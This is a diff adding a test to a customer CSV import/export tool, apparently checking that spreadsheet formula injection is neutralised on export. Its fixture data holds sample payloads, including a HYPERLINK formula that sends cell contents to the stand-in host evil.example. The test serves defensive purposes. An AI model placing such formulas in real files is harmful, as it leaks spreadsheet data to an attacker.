@@ -197,6 +197,27 @@ def test_export_refuses_unknown_fields_tags_and_bad_conditions(
         assert result.stdout == ""
 
 
+def test_exported_cells_that_would_run_as_formulas_are_neutralised(
+    environment: dict[str, str], tmp_path: Path
+) -> None:
+    rapport(environment, "db", "upgrade")
+    people = tmp_path / "people.csv"
+    people.write_text(
+        "email,first_name,last_name\n"
+        'eve@example.com,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",@SUM(A1)\n'
+        "mal@example.com,+1+1,-2+3\n",
+        encoding="utf-8",
+    )
+    rapport(environment, "import", "customers", str(people))
+    output = rapport(environment, "export", "customers").stdout
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(A1)"' in output
+    names = {(row["first_name"], row["last_name"]) for row in csv.DictReader(io.StringIO(output))}
+    assert names == {
+        ("\'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\'@SUM(A1)"),
+        ("\'+1+1", "\'-2+3"),
+    }
+
+
 def test_recurring_jobs_are_listed_and_run_when_due(environment: dict[str, str]) -> None:
     rapport(environment, "db", "upgrade")
     listed = rapport(environment, "jobs", "list").stdout
